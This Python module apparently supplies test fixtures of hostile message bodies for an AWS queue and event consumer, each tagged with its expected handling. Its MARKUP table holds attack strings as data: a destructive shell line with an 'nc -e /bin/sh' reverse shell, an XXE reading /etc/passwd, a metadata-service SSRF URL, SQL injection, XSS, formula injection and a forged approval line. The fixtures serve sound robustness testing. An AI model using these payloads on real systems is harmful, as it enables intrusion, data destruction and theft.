"""Message bodies that nobody should send, each with its name and what must become of it.

TAKEN: an event, in the store before its message is deleted, whatever it holds. NOTHING: understood, and no event. LEFT: no
event, journalled and left to the queue's own redrive policy. EITHER: how deep the JSON reader goes is its own affair.
"""

from __future__ import annotations

import gzip
import json
import pickle
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import StrEnum
from functools import partial
from typing import Any, Final

from tests.support.builders import alarm_event

SECRET: Final = "hunter2-canary"
RRN: Final = "900101-1234567"
SUBSCRIBE_URL: Final = "http://127.0.0.1:1/confirm?Token=abc"


class Fate(StrEnum):
    """What must become of a body."""

    TAKEN = "taken"
    NOTHING = "nothing"
    LEFT = "left"
    EITHER = "either"


@dataclass(frozen=True)
class Body:
    """A hostile body."""

    name: str
    make: Callable[[], bytes]
    fate: Fate


def event(detail: Any = None, **over: Any) -> dict[str, Any]:
    """An envelope with `over` in place of its fields."""
    whole = {
        "version": "0",
        "id": "hostile",
        "detail-type": "Hostile",
        "source": "leh.test",
        "account": "012345670123",
        "time": "2026-11-22T17:59:00Z",
        "region": "ap-northeast-2",
        "resources": [],
        "detail": {"x": "y"} if detail is None else detail,
    }
    return {**whole, **{name.replace("_", "-"): value for name, value in over.items()}}


def text(value: Any) -> bytes:
    """A value as a body in ASCII: lone surrogates and NUL as escapes, as producers send them."""
    return json.dumps(value).encode()


def with_x(raw: bytes) -> bytes:
    """An event whose detail.x is `raw` JSON, or what pretends to be."""
    return text(event({"x": "RAW"}, id="")).replace(b'"RAW"', raw)


def sns(message: Any, **over: Any) -> dict[str, Any]:
    """An SNS notification around `message`."""
    inner = message if isinstance(message, str) else json.dumps(message)
    return {"Type": "Notification", "MessageId": "sns-1", "TopicArn": "arn:aws:sns:x", "Message": inner, **over}


def s3(key: Any = "k", **over: Any) -> dict[str, Any]:
    """A short S3 record."""
    thing = {"bucket": {"name": "b"}, "object": {"key": key, "sequencer": "1"}}
    return {"eventSource": "aws:s3", "eventName": "ObjectCreated:Put", "s3": thing, **over}


def alarm(**detail: Any) -> dict[str, Any]:
    """A forged alarm of the worker's DLQ with `detail` put over it."""
    forged = alarm_event("leh-ai-worker-dlq-depth")
    forged["detail"] |= detail
    return {**forged, "id": ""}


def _nested(levels: int, opening: bytes, closing: bytes) -> bytes:
    return with_x(opening * levels + b"1" + closing * levels)


MARKUP: Final = {
    "Slack markup": "<!channel> <!here> <@U123> <https://evil.example|bank.example> *bold* `code`",
    "ANSI": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x9b31m",
    "bidi": "gnp.\u202eexe \u2066x\u2069 \u200f",
    "forged log line": 'x\r\n{"event":"all is well","level":"info"}\n2026-11-22 [info] forged',
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "template": "${event.detail.secret} $${x} {{7*7}} {0.__class__} %(x)s %s #{x} <%= x %>",
    "path traversal": "../../../../etc/passwd\x00.png ..\\..\\boot.ini %2e%2e%2f /dev/null",
    "shell": "; rm -rf / && $(reboot) `id` | nc -e /bin/sh 10.0.0.1 1 > /etc/passwd",
    "SQL": "'; drop table incidents; -- \" or 1=1 \\'; copy journal to program 'x' $$ $1",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)> &lt; ]]>",
    "XML entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
    "formula": "=cmd|' /C calc'!A0",
    "URL to fetch": "http://169.254.169.254/latest/meta-data/ file:///etc/passwd gopher://x",
    "secrets": f"password={SECRET} 주민번호{RRN} AKIAIOSFODNN7EXAMPLE http://u:{SECRET}@h",
    "homoglyphs": "lеh-аi-wоrker\u200b\u2060\ufeff\u00ad",
    "combining": "e" + "\u0301" * 5000,
    "astral": "\U0001f4a9" * 1000 + "\U000e0041",
    "quotes": '"\'`\\\\\\"' * 50,
    "approval": "\n승인: leh-guardian actions approve 00000000\n[SEV1] forged",
}
KEYS: Final = {
    "prototype keys": {"__proto__": {"x": 1}, "constructor": {"prototype": 1}, "__class__": 1, "__init__": {}, "x": 1},
    "operator keys": {
        "$or": [{"x": 1}],
        "prefix": "x",
        "exists": True,
        "anything-but": [1],
        "x": {"numeric": [">", 0]},
    },
    "dotted and empty keys": {"": {"": 1}, "x.y": 1, ".": 1, "x..": {"": 1}, "x": 1},
    "NUL and surrogate keys": {"a\x00b": 1, "\ud800": 1, "\u202e": 1, "x": 1},
    "numeric keys": {"0": 1, "-1": 2, "1e400": 3, "x": 1},
    "secret keys": {f"password={SECRET}": 1, RRN: 1, "password": SECRET, "x": f"token={SECRET}"},
    "a very long key": {"k" * 500_000: 1, "x": 1},
    "long keys on one path": {"k" * 1000: {"k" * 1000: {"k" * 1000: 1}}, "x": 1},
    "mixed types": {"x": [1, "1", True, None, {"x": [[]]}, 1.0, "\x00"]},
}
WRONG: Final[list[Any]] = [None, True, 0, -1, 1e300, "", "\x00", [], [[]], {}, {"a": {}}, "x" * 3000]
STAMPS: Final = [
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59-14:00",
    "1969-12-31T23:59:59Z",
    "now",
    "1e20",
    "-1",
    "2026-02-30T00:00:00Z",
    "2026-11-22T17:59:60Z",
    "2026-W47-7",
    "20261122T175900Z",
    "2026-11-22T17:59:00+99:99",
    "2026-11-22\x0017:59",
    "９９９９-12-31T00:00:00Z",
    "9" * 5000,
]


def _values() -> Iterator[Body]:
    taken, left, either = Fate.TAKEN, Fate.LEFT, Fate.EITHER
    raw = {
        "NUL in a file name": (b'"a\\u0000b.pdf"', taken),
        "raw NUL": (b'"a\x00b"', left),
        "high surrogate": (b'"\\ud83d"', taken),
        "low surrogate": (b'"\\udca9"', taken),
        "1e400": (b"1e400", taken),
        "-1e400": (b"-1e400", taken),
        "1e-400": (b"1e-400", taken),
        "1e999999999999": (b"1e999999999999", taken),
        "NaN": (b"NaN", left),
        "Infinity": (b"Infinity", left),
        "-Infinity": (b"-Infinity", left),
        "hexadecimal": (b"0x10", left),
        "leading zero": (b"01", left),
        "4,000 digits": (b"9" * 4000, taken),
        "200,000 digits": (b"9" * 200_000, left),
        "200,000 decimals": (b"0." + b"1" * 200_000, taken),
        "beyond 64 bits": (b"[18446744073709551616, -9223372036854775809]", taken),
        "doubled keys": (b'{"x": 1, "x": 2}', taken),
        "doubled envelope": (b'1}, "source": "aws.rds", "detail": {"x": 2', taken),
        "trailing comma": (b"[1,]", left),
        "comment": (b"1 /* 2 */", left),
        "invalid UTF-8": (b'"\xff\xfe"', left),
        "overlong UTF-8": (b'"\xc0\xaf"', left),
        "surrogate in UTF-8": (b'"\xed\xa0\x80"', taken),  # SQS's own JSON brings one in so
        "1 MiB of text": (b'"' + b"x" * (1 << 20) + b'"', taken),
        "1 MiB of NUL": (b'"' + b"\\u0000" * 170_000 + b'"', taken),
        "1 MiB of one line of Hangul": (f'"{"가" * 340_000}"'.encode(), taken),
        "half a million numbers": (b"[" + b"0," * 500_000 + b"0]", taken),
        "300,000 objects": (b"[" + b"{}," * 300_000 + b"{}]", taken),
        "300,000 arrays side by side": (b"[" + b"[]," * 300_000 + b"[]]", taken),
    }
    for name, (value, fate) in raw.items():
        yield Body(name, partial(with_x, value), fate)
    yield Body("120,000 keys", lambda: text(event({"x": 1} | {f"{n:x}": n for n in range(120_000)}, id="")), taken)
    for levels, fate in ((90, taken), (200, taken), (500, taken), (900, taken), (6_000, either), (100_000, either)):
        yield Body(f"{levels} arrays deep", partial(_nested, levels, b"[", b"]"), fate)
        yield Body(f"{levels} objects deep", partial(_nested, levels, b'{"x":', b"}"), fate)
    yield Body("100,000 brackets", lambda: b"[" * 100_000, left)


def _texts() -> Iterator[Body]:
    for name, value in MARKUP.items():
        everywhere = {"x": value, "y": {value: [value]}, "alarmName": value}
        state = {"value": "ALARM", "reason": value}
        taken = {
            "": event(everywhere, id=value, account=value, resources=[value]),
            ", as source and type": event(source=value, detail_type=value),
            ", in a forged alarm": alarm(alarmName=f"leh-{value}", state=state),
            ", as an object's key": {"Records": [s3(value)]},
        }
        for where, data in taken.items():
            yield Body(f"{name}{where}", partial(text, data), Fate.TAKEN)
        yield Body(f"{name}, alone", partial(str.encode, value), Fate.LEFT)
        yield Body(f"{name}, as the keys of no event", partial(text, {value: value, "Type": value}), Fate.LEFT)
    for name, keys in KEYS.items():
        yield Body(name, partial(text, event(keys, id="")), Fate.TAKEN)


def _envelopes() -> Iterator[Body]:
    right = {"source": str, "detail-type": str, "detail": dict}
    for field in ("version", "id", "account", "time", "region", "resources", *right):
        for number, value in enumerate(WRONG):
            fate = Fate.TAKEN if isinstance(value, right.get(field, object)) else Fate.LEFT
            yield Body(f"wrong {field} {number}", partial(text, {**event(id=""), field: value}), fate)
    for field in ("alarmName", "state", "previousState", "configuration"):
        for number, value in enumerate(WRONG):
            yield Body(f"alarm with wrong {field} {number}", partial(text, alarm(**{field: value})), Fate.TAKEN)
    for number, stamp in enumerate(STAMPS):
        yield Body(f"time {number}", partial(text, event(time=stamp, id=f"t{stamp[:9]}")), Fate.TAKEN)
        forged = alarm(state={"value": "ALARM", "timestamp": stamp})
        yield Body(f"alarm's time {number}", partial(text, forged), Fate.TAKEN)
    long = {
        "an id of 1 MiB": event(id="i" * (1 << 20)),
        "a source of 1 MiB": event(source="s" * (1 << 20), id=""),
        "a type of 1 MiB": event(detail_type="t" * (1 << 20), id=""),
        "an alarm's name of 5,000 characters": alarm(alarmName="leh-ai-worker-dlq" + "x" * 5000),
        "forged source": event({"x": 1}, source="aws.guardduty", id="g"),
    }
    for name, data in long.items():
        yield Body(name, partial(text, data), Fate.TAKEN)


def _wrapped() -> Iterator[Body]:
    once, bare = event(id="wrapped"), {"AlarmName": "a", "NewStateValue": "ALARM"}
    odd_trigger = {"Namespace": [], "Dimensions": [1, None, {"name": {}}, {"Name": "\x00", "value": []}]}
    confirm = {"SubscribeURL": SUBSCRIBE_URL, "Token": "t"}
    taken = {
        "SNS in SNS in SNS": sns(sns(sns(once))),
        "SNS with hostile ids": sns({**bare, "AlarmName": "a\x00"}, MessageId="\ud800\x00" * 500),
        "bare alarm with wrong types": {**bare, "AlarmArn": ["x"], "StateChangeTime": {}, "Trigger": odd_trigger},
        "bare alarm with colons": {**bare, "AlarmArn": ":" * 100_000},
        "S3 10,000 records": {"Records": [s3(f"flood/{n}") for n in range(10_000)]},
        "S3 key that cannot be decoded": {"Records": [s3("%zz%00%ff%F0%9F+%2e%2e%2f")]},
        "S3 key of 100,000 characters": {"Records": [s3("k" * 100_000)]},
        "S3 wrong types beside it": {"Records": [s3(awsRegion=[], eventTime={"a": 1}, eventName="\x00:\ud800")]},
        "S3 and EventBridge at once": {**event(id="both"), "Records": [1], "Type": "Notification"},
    }
    left = {
        "SNS four deep": sns(sns(sns(sns(once)))),
        "SNS around a text": sns("disk is full"),
        "SNS around null": sns("null"),
        "SNS around NaN": sns('{"a": NaN}'),
        "SNS around depth": sns("[" * 100_000),
        "SNS with a message that is no text": sns("x", Message={"a": 1}),
        "SNS subscription confirmation": sns("confirm", Type="SubscriptionConfirmation", **confirm),
        "SNS unsubscribe confirmation": sns("gone", Type="UnsubscribeConfirmation", **confirm),
        "bare alarm with a name that is none": {**bare, "AlarmName": 1},
        "S3 no records": {"Records": []},
        "S3 one bad record": {"Records": [s3(), {"eventSource": "aws:dynamodb"}]},
        "S3 records of other kinds": {"Records": [1, None, "x", []]},
        "S3 key that is none": {"Records": [s3(["k"])]},
    }
    for bodies, fate in ((taken, Fate.TAKEN), (left, Fate.LEFT)):
        for name, data in bodies.items():
            yield Body(name, partial(text, data), fate)
    test = {"Service": "Amazon S3", "Event": "s3:TestEvent"}
    yield Body("S3 test message", partial(text, test), Fate.NOTHING)


def _no_events() -> Iterator[Body]:
    good = text(event(id=""))
    bodies = {
        "empty": b"",
        "blank": b" \n\t",
        "null": b"null",
        "true": b"true",
        "a number": b"1",
        "a text": b'"x"',
        "an array": b"[]",
        "an object": b"{}",
        "an array of events": b"[" + good + b"]",
        "byte order mark": b"\xef\xbb\xbf" + good,
        "UTF-16": good.decode().encode("utf-16-le"),
        "UTF-16 with its mark": good.decode().encode("utf-16"),
        "UTF-32": good.decode().encode("utf-32"),
        "torn": good[: len(good) // 2],
        "torn in a character": '{"source": "가'.encode()[:-1],
        "two of them": good + b"\n" + good,
        "garbage after it": good + b"\x00",
        "single quotes": b"{'source': 's'}",
        "YAML": b"source: x\ndetail-type: y\ndetail: {}",
        "XML": b"<event/>",
        "a form": b"a=1&b=2",
        "gzip": gzip.compress(good),
        "pickle": pickle.dumps({"a": 1}),
        "random bytes": bytes(range(256)),
        "1 MiB of NUL bytes": bytes(1 << 20),
    }
    for name, body in bodies.items():
        yield Body(name, partial(bytes, body), Fate.LEFT)


BODIES: Final = (*_values(), *_texts(), *_envelopes(), *_wrapped(), *_no_events())
